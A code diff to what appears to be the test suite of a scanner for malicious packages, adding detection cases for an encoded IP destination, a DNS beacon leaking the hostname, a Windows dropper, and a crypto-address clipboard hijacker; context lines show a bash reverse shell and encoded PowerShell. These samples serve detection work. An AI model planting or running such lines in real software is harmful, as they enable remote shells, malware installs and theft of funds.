@@ -69,6 +69,7 @@ _SYMBOLS = string.ascii_letters + string.digits + "!#$%&()*+,-.:;<=>?@[]^_{|}~"
 _RANDOM_TEXT = "".join(random.Random(3).choices(_SYMBOLS, k=150))
 _PS_ENCODED = base64.b64encode("Write-Output 'payload'".encode("utf-16-le")).decode()
 _WEBHOOK = "https://discord.com/api/webhooks/123456789012345678/AbCdEfGhIjKlMnOpQrStUv"
+_B64_IP_URL = base64.b64encode(b"http://93.184.216.34:5000/post").decode()
 _BUILD_EXT = """
 from setuptools import setup
 from setuptools.command.build_ext import build_ext
@@ -148,6 +149,11 @@ CASES: dict[SignalKind, tuple[Case, Case]] = {
         module(f"blob = '{_PAYLOAD_B64}'\n"),
         module(f"icon = '{_PNG_B64}'\nlogo = 'data:image/png;base64,{_RANDOM_B64}'\n"),
     ),
+    SignalKind.ENCODED_DESTINATION: (
+        module(f"import base64\nURL = base64.b64decode('{_B64_IP_URL}').decode()\n"),
+        module(f"import base64\nURL = base64.b64decode('{_B64_IP_URL}').decode()\n",
+               path="pkg-1.0/tests/test_urls.py"),
+    ),
     SignalKind.ENCODED_BLOB: (
         module(f"key = '{_RANDOM_B64}'\n"),
         module(f"key = '{_RANDOM_B64}'\n", path="pkg-1.0/tests/test_keys.py"),
@@ -187,6 +193,12 @@ CASES: dict[SignalKind, tuple[Case, Case]] = {
         module("URL = 'http://93.184.216.34/stage2.bin'\n"),
         module("LOCAL = 'http://127.0.0.1:8000/'\nROUTER = 'http://192.168.1.1/'\n"),
     ),
+    SignalKind.DNS_BEACON: (
+        module(
+            "import socket\nsocket.gethostbyname(f'{socket.gethostname()}.pkg.dns.example.net')\n"
+        ),
+        module("import socket\nADDR = socket.gethostbyname(socket.gethostname())\n"),
+    ),
     SignalKind.REVERSE_SHELL: (
         module("import os\nos.system('bash -i >& /dev/tcp/93.184.216.34/4444 0>&1')\n"),
         module("import subprocess\nsubprocess.run(['bash', '-c', 'echo hi'])\n"),
@@ -221,6 +233,13 @@ CASES: dict[SignalKind, tuple[Case, Case]] = {
             "os.chmod('/tmp/tool', 0o755)\nsubprocess.Popen(['/tmp/tool'])\n"
         ),
         Case(PYPI, {"pkg-1.0/scripts/fetch.sh": "curl -fsSL -o data.json https://example.com/d\n"}),
+    ),
+    SignalKind.DROPPER: (
+        module("import os\nos.system('curl -s -o %TEMP%\\\\u.exe https://x.example/u.exe"
+               " && start %TEMP%\\\\u.exe')\n"),
+        module("import os, subprocess, urllib.request\n"
+               "urllib.request.urlretrieve('https://example.com/tool', '/tmp/tool')\n"
+               "os.chmod('/tmp/tool', 0o755)\nsubprocess.Popen(['/tmp/tool'])\n"),
     ),
     SignalKind.POWERSHELL_ENCODED: (
         module(f"subprocess.Popen('powershell -NoProfile -EncodedCommand {_PS_ENCODED}')\n"),
@@ -264,6 +283,13 @@ CASES: dict[SignalKind, tuple[Case, Case]] = {
             path="pkg-1.0/pkg/__init__.py",
         ),
         module("import socket\nNODE = socket.gethostname()\n", path="pkg-1.0/pkg/__init__.py"),
+    ),
+    SignalKind.CLIPBOARD_HIJACK: (
+        module("import pyperclip, re\ntext = pyperclip.paste()\n"
+               "if re.match(r'^0x[a-fA-F0-9]{40}$', text):\n"
+               "    pyperclip.copy('0x52E7A3c1Bd0aB8e1F4D0a2b9c6F1e8d3A7b5C9e2')\n"),
+        module("import re\nETH = re.compile(r'^0x[a-fA-F0-9]{40}$')\n"
+               "USDT = '0xdAC17F958D2ee523a2206206994597C13D831ec7'\n"),
     ),
     SignalKind.BUNDLED_EXECUTABLE: (
         Case(
